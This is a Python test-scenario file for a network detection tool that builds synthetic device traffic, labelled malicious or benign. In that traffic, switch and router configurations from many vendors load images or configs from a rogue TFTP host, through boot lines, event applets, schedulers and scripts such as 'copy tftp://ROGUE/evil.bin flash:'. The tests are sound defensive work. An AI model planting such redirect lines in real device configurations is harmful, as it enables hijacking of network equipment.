"""BW08: boot lines in other vendors' configurations, in scripts, and in configurations that cannot be read."""

from __future__ import annotations

import gzip
import zipfile
from io import BytesIO

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import BOOT_SERVER, HQ, IMAGE, ROGUE
from bootwarden.traffic import ftp, http, tftp
from bootwarden.traffic.images import config
from bootwarden.traffic.wire import START, Wire

EVIL = f"tftp://{ROGUE}/evil.bin"
SAID = f"tftp://{BOOT_SERVER}/{IMAGE}"


def served(last: int, file: str, server: str = ROGUE) -> Notice:
    """The notice of one configuration of device 10.0.1.``last``."""
    return Notice("Boot_Config_Served", f"10.0.1.{last}", server, file)


def junos(lines: str) -> bytes:
    """A Junos configuration with a statement in its system block."""
    return f"""\
## Last commit: 2026-01-05 08:00:00 UTC by root
version 21.4R1.12;
system {{
    host-name ex1;
{lines}    syslog {{
        host 10.0.9.20 {{
            any any;
        }}
    }}
}}
""".encode()


def procurve(line: str) -> bytes:
    """A ProCurve configuration."""
    return f"""\
; J9147A Configuration Editor; Created on release #W.15.14.0007

hostname "access1"
{line}
interface 1
   name "up"
   exit
snmp-server community "public" operator
""".encode()


AUTOINSTALL = f"""\
    autoinstallation {{
        configuration-servers {{
            "tftp://{ROGUE}/ex1.conf" password "$9$hunter2";
        }}
        interfaces {{
            ge-0/0/0 {{
                bootp;
            }}
        }}
    }}
"""


@scenario(
    "BW08",
    "malicious",
    raises=[
        ("BW08", rule, BOOT_SERVER, f"10.0.1.{last}")
        for last, rule in ((11, 6), (12, 0), (13, 1542007804), (14, 1542007806), (15, 1542007790), (16, 0))
    ],
    site=HQ,
    with_site=Expect(
        (
            served(11, "access1.cfg"),
            served(12, "icx1.cfg"),
            served(13, "ex1.conf"),
            served(14, "ex2.conf"),
            served(15, "boot-config"),
            served(16, "leaf2-confg"),
        )
    ),
)
def bw08_other_vendors(wire: Wire) -> None:
    """Configurations of ProCurve, FastIron, Junos in both styles, EOS and NX-OS name a server that nobody declared."""
    for last, name, text in (
        (11, "access1.cfg", procurve(f"auto-tftp {ROGUE} W_evil.swi")),
        (12, "icx1.cfg", b"ver 08.0.30\n!\nhostname icx1\nboot system tftp " + f"{ROGUE} evil.bin\n!\nend\n".encode()),
        (13, "ex1.conf", junos(AUTOINSTALL)),
        (
            14,
            "ex2.conf",
            f"set version 21.4R1.12\nset system autoinstallation configuration-servers {EVIL}\n".encode(),
        ),
        (15, "boot-config", f"SWI={EVIL}\n".encode()),
        (16, "leaf2-confg", f"!Command: show run\nversion 9.3(3)\nhostname leaf2\nboot nxos {EVIL}\n".encode()),
    ):
        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)


GIVES = 1542007803


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last in (21, 23)],
    site=HQ,
    with_site=Expect((served(21, "execute.txt"), served(22, "/ztp/provision.py"), served(23, "edge23-confg"))),
)
def bw08_scripts(wire: Wire) -> None:
    """Commands in scripts: Smart Install's list, a provisioning script by HTTP, an event applet in a configuration."""
    commands = f'"configure replace {EVIL}" "y"\n"write memory"\n'
    tftp.read(wire, "10.0.1.21", BOOT_SERVER, "execute.txt", commands.encode(), client_port=50021)
    script = f"""\
#!/usr/bin/env python3
# cli("copy tftp://10.0.6.67/commented-out flash:")
from cli import cli, configurep
cli('copy {EVIL} flash:')
configurep(["boot system flash:evil.bin", "end"])
"""
    http.get(wire, "10.0.1.22", BOOT_SERVER, "/ztp/provision.py", script.encode(), client_port=50022)
    lines = (
        "event manager applet EVIL",
        " event syslog pattern SYS-5-RESTART",
        ' action 1.0 cli command "enable"',
        f' action 2.0 cli command "copy {EVIL} running-config" pattern "confirm"',
    )
    tftp.read(wire, "10.0.1.23", BOOT_SERVER, "edge23-confg", config("edge23", lines), client_port=50023)


SCHEMES = (("sftp", GIVES), ("http", 1542007808), ("https", 1542007809), ("SCP", 1542007810), ("rcp", 1542007810))


def applet(name: str, url: str) -> bytes:
    """A configuration whose event manager copies from somewhere."""
    lines = ("event manager applet EVIL", " event none", f' action 1.0 cli command "copy {url} running-config"')
    return config(name, lines)


@scenario(
    "BW08",
    "malicious",
    raises=[
        *(("BW08", sid, BOOT_SERVER, f"10.0.1.{last}") for last, (_, sid) in enumerate(SCHEMES, 41)),
        ("BW08", 1542007807, "10.0.1.46", BOOT_SERVER),
    ],
    # Where images are held to their bytes, one rule is for all schemes.
    raises_with_site=[
        *(("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last in range(41, 46)),
        ("BW08", 1542007807, "10.0.1.46", BOOT_SERVER),
    ],
    site=HQ,
    with_site=Expect((*(served(last, f"edge{last}-confg") for last in range(41, 46)), served(46, "ex46.conf"))),
)
def bw08_schemes(wire: Wire) -> None:
    """Event applets copy by each scheme; a device saves a configuration that has Junos look for another one."""
    for last, (scheme, _) in enumerate(SCHEMES, 41):
        text = applet(f"edge{last}", f"{scheme}://{ROGUE}/evil.cfg")
        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, f"edge{last}-confg", text, client_port=50000 + last)
    text = f"set version 21.4R1.12\nset system autoinstallation configuration-servers {EVIL}\n".encode()
    tftp.write(wire, "10.0.1.46", BOOT_SERVER, "ex46.conf", text, client_port=50046)


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_schemes_that_boot_nothing(wire: Wire) -> None:
    """Switches negotiate, call home and keep archives: words and URLs as every configuration has them."""
    for last, lines in enumerate(
        (
            ("interface Gi0/1", " speed auto", " duplex auto", " mdix auto", "ip ssh authentication-retries 3"),
            ("call-home", " profile CiscoTAC-1", "  destination address http https://tools.example/its/service/oddce"),
            ("archive", " path scp://backup@10.0.0.5/edge-$t", " write-memory", "logging url http://10.0.9.20/log"),
            ("! autoinstallation is off, see http://wiki.example/autoinstallation", "no service config"),
            ("kron policy-list BACKUP", " cli copy running-config rcp://10.0.0.5/edge"),
        ),
        51,
    ):
        text = config(f"edge{last}", lines)
        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, f"edge{last}-confg", text, client_port=50000 + last)
    text = b"set version 21.4R1.12\ndelete system autoinstallation\nset interfaces ge-0/0/0 speed auto\n"
    tftp.write(wire, "10.0.1.56", BOOT_SERVER, "ex56.conf", text, client_port=50056)


def routeros(*lines: str) -> bytes:
    """An export of RouterOS, which writes a menu's path in a line of its own."""
    return "\n".join(("# nov/26/2025 08:00:00 by RouterOS 6.48.6", *lines, "")).encode()


def fortios(script: str) -> bytes:
    """A configuration of FortiOS with a script that it runs itself."""
    return f"""\
#config-version=FGT60F-6.4.8-FW-build1914:opmode=0:vdom=0:user=admin
config system auto-script
    edit "up"
        set interval 60
        set script "{script}"
    next
end
""".encode()


NEXUS = b"!Command: show running-config\nversion 9.3(5)\nhostname n9k1\n"
NESTED = (
    (71, "edge71-confg", config("edge71", ("kron policy-list UP", f" cli copy {EVIL} flash:evil.bin"))),
    (
        72,
        "leaf72-confg",
        b"! Command: show run\n! device: leaf72 (DCS-7050, EOS-4.22.1F)\n!\nevent-handler UP\n"
        b" trigger on-boot\n" + f" action bash FastCli -p 15 -c 'copy {EVIL} flash:'\n!\nend\n".encode(),
    ),
    (73, "n9k1.cfg", NEXUS + f"scheduler job name UP\n  copy {EVIL} bootflash:\nend-job\n".encode()),
    (74, "r1.rsc", routeros("/system scheduler", f'add interval=1d name=up on-event="/tool fetch url={EVIL}"')),
    (
        75,
        "ex75.conf",
        b"set version 21.4R1.12\nset system host-name ex75\nset event-options policy UP then "
        b'execute-commands commands "request system software add ' + f'{EVIL}"\n'.encode(),
    ),
    (76, "bof.cfg", b"# TiMOS-B-20.10.R1 both/x86_64 Nokia 7750 SR\n    primary-image    " + EVIL.encode() + b"\n"),
    (
        77,
        "8325.cfg",
        b"!\n!Version ArubaOS-CX GL.10.09.0001\n!export-password: default\njob UP\n"
        b"    10 cli copy " + f"{EVIL} primary\n".encode(),
    ),
)
ZEEKS = (
    (78, "fw78.conf", fortios(f"execute restore image tftp evil.bin {ROGUE}")),
    (
        79,
        "msr79.cfg",
        b"#\n version 7.1.070, Release 6357\n#\n sysname msr79\n#\nscheduler job up\n"
        + f" command 1 tftp {ROGUE} get evil.bin\n#\nreturn\n".encode(),
    ),
)
"""Suricata looks for commands that name their source by URL."""


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last, _, _ in NESTED],
    site=HQ,
    with_site=Expect(tuple(served(last, name) for last, name, _ in (*NESTED, *ZEEKS))),
)
def bw08_commands_given(wire: Wire) -> None:
    """Schedulers, event handlers and scripts that a configuration holds fetch what nobody approved; SR OS' BOF."""
    for last, name, text in (*NESTED, *ZEEKS):
        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_commands_that_boot_nothing(wire: Wire) -> None:
    """Schedulers that save and show, remarks, comments and notes that speak of orders, and scripts of hosts."""
    for last, (name, text) in enumerate(
        (
            ("edge81-confg", config("edge81", ("kron policy-list P", f" cli copy running-config {SAID}"))),
            (
                "edge82-confg",
                config("edge82", (f"! copy {EVIL} flash:", "interface Gi0/1", f" description copy {EVIL}")),
            ),
            (
                "r83.rsc",
                routeros(
                    "/system note", f'set note="never /tool fetch url={EVIL}"', "/routing ospf", f"add source={ROGUE}"
                ),
            ),
            (
                "fw84.conf",
                fortios("get system status") + f'set comment "execute restore image tftp x {ROGUE}"\n'.encode(),
            ),
            ("play.yml", f"- name: up\n  ios_command:\n    commands:\n      - copy {EVIL} flash:\n".encode()),
            ("backup.sh", f"#!/bin/sh\n# copy {EVIL} flash:\necho copy {EVIL} flash:\ninstall -m 644 a b\n".encode()),
            ("ks.cfg", f"install\nurl --url=http://{ROGUE}/os\n%post\nwget http://{ROGUE}/x\n%end\n".encode()),
            ("y000000000000.cfg", f"#!version:1.0.0.1\nauto_provision.server.url = tftp://{ROGUE}/\n".encode()),
        ),
        81,
    ):
        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)


@scenario(
    "BW08",
    "benign",
    site=HQ,
    with_site=Expect(
        evidence=tuple(
            {"device": device, "evidence": f"Bootwarden::{kind}", "object": shown}
            for device, shown in (("10.0.1.31", "zip"), ("10.0.1.32", "gzip"), ("10.0.1.33", "gzip"))
            for kind, shown in (
                ("FILE_FETCH", "WRQ" if device == "10.0.1.31" else "RRQ" if device == "10.0.1.32" else "FTP"),
                ("BOOT_CONFIG", shown),
                ("FILE_CONTENT", "WRQ" if device == "10.0.1.31" else "RRQ" if device == "10.0.1.32" else "FTP"),
            )
        )
    ),
)
def bw08_compressed(wire: Wire) -> None:
    """Compressed configurations are named as unread: a VRP's zip is saved, Junos' gzip is read by TFTP and FTP."""
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as packed:
        packed.writestr(zipfile.ZipInfo("vrpcfg.cfg", (2026, 1, 5, 8, 0, 0)), "sysname core1\n")
    tftp.write(wire, "10.0.1.31", BOOT_SERVER, "vrpcfg.zip", archive.getvalue(), client_port=50031)
    text = gzip.compress(junos(AUTOINSTALL), mtime=START // 1_000_000)
    tftp.read(wire, "10.0.1.32", BOOT_SERVER, "juniper.conf.gz", text, client_port=50032)
    ftp.retrieve(wire, "10.0.1.33", BOOT_SERVER, "juniper.conf.1.gz", text, client_port=50033)


@scenario(
    "BW08",
    "benign",
    # A rule reads no banners.
    raises=[("BW08", 0, BOOT_SERVER, f"10.0.1.{last}") for last in (42, 43)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=tuple(
            {"device": f"10.0.1.{last}", "evidence": f"Bootwarden::FILE_{kind}", "verdict": "expected"}
            for last in (41, 42, 43, 44)
            for kind in ("FETCH", "CONTENT")
        )
    ),
)
def bw08_banners_and_archives(wire: Wire) -> None:
    """Banners, archives, local scripts and other vendors' settings speak of TFTP, and boot from nowhere."""
    lines = (
        "banner motd ^C",
        f"boot system {SAID} is what nobody may write here,",
        f"nor copy {SAID} flash:",
        "^C",
        f"banner exec #boot system {SAID}#",
        "ip tftp source-interface Loopback0",
        "archive",
        f" path tftp://{ROGUE}/$h",
        "event manager applet HELLO",
        ' action 1.0 cli command "show version"',
        f' action 2.0 syslog msg "copy {SAID} flash:"',
        f"alias exec evil boot system {SAID}",
    )
    tftp.read(wire, "10.0.1.41", BOOT_SERVER, "edge41-confg", config("edge41", lines), client_port=50041)
    text = (
        f'#\nsysname core1\n#\nheader login information "\nboot system {SAID}\n"\nstartup system-software flash:/x.cc\n'
    )
    tftp.read(wire, "10.0.1.42", BOOT_SERVER, "core1.cfg", text.encode(), client_port=50042)
    text = f"! EOS\nhostname leaf1\nbanner login\nboot system {SAID}\nEOF\nboot system flash:EOS.swi\n"
    tftp.read(wire, "10.0.1.43", BOOT_SERVER, "leaf1-confg", text.encode(), client_port=50043)
    login = f'    login {{\n        message "request system software add {SAID}";\n    }}\n'
    tftp.read(wire, "10.0.1.44", BOOT_SERVER, "ex4.conf", junos(login), client_port=50044)
    script = f"#!/bin/sh\nSERVER={ROGUE}\nIMAGE=x\necho fetching from $SERVER\nset_boot() {{ true; }}\n"
    http.get(wire, "10.0.1.45", BOOT_SERVER, "/ztp/inventory.sh", script.encode(), client_port=50045)


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 0, BOOT_SERVER, f"10.0.1.{last}") for last in (51, 52)],
    site=HQ,
    with_site=Expect((served(51, "edge51-confg"), served(52, "edge52-confg"))),
)
def bw08_behind_banners(wire: Wire) -> None:
    """Boot lines hide behind a banner that ends in its own line, and in one that never ends."""
    lines = ("banner motd ^C go away ^C", f"boot system {EVIL}")
    tftp.read(wire, "10.0.1.51", BOOT_SERVER, "edge51-confg", config("edge51", lines), client_port=50051)
    lines = ("banner motd ~", f"boot system {EVIL}")
    tftp.read(wire, "10.0.1.52", BOOT_SERVER, "edge52-confg", config("edge52", lines), client_port=50052)


RARER = [
    *(("BW08", rule, f"10.0.1.{last}", BOOT_SERVER) for last, rule in ((61, 7), (63, 1542007791), (64, 1542007793))),
    ("BW08", 1542007794, BOOT_SERVER, "10.0.1.66"),
]


@scenario(
    "BW08",
    "malicious",
    raises=[*RARER, ("BW08", 9, "10.0.1.62", BOOT_SERVER), ("BW08", 8, BOOT_SERVER, "10.0.1.65")],
    # Where servers are declared, asking the network for no server by name is nothing wrong.
    raises_with_site=RARER,
    site=HQ,
    with_site=Expect(
        (
            served(61, "access61.cfg"),
            served(63, "boot-config"),
            served(64, "edge64-confg"),
            served(66, "/edge66-confg"),
        )
    ),
)
def bw08_in_rarer_ways(wire: Wire) -> None:
    """Backups hold other vendors' and the shortest lines; one asks the network, and a long one comes by HTTP."""
    short = f"version 15.7\nhostname edge\n!\nbo sy tf evil.bin {ROGUE}\n!\nend\n".encode()
    asks = b"version 15.7\nhostname edge\n!\nservice config\n!\nend\n"
    for last, name, text in (
        (61, "access61.cfg", procurve(f"auto-tftp {ROGUE} W_evil.swi")),
        (62, "edge62-confg", asks),
        (63, "boot-config", f"SWI={EVIL}\n".encode()),
        (64, "edge64-confg", short),
    ):
        tftp.write(wire, f"10.0.1.{last}", BOOT_SERVER, name, text, client_port=50000 + last)
    tftp.read(wire, "10.0.1.65", BOOT_SERVER, "edge65-confg", asks, client_port=50065)
    many = (f"access-list 101 permit tcp host 10.9.{n // 250}.{n % 250} any eq 443" for n in range(1500))
    text = config("edge66", (*many, f"boot system {EVIL}"))
    http.get(wire, "10.0.1.66", BOOT_SERVER, "/edge66-confg", text, kind="text/plain", client_port=50066)
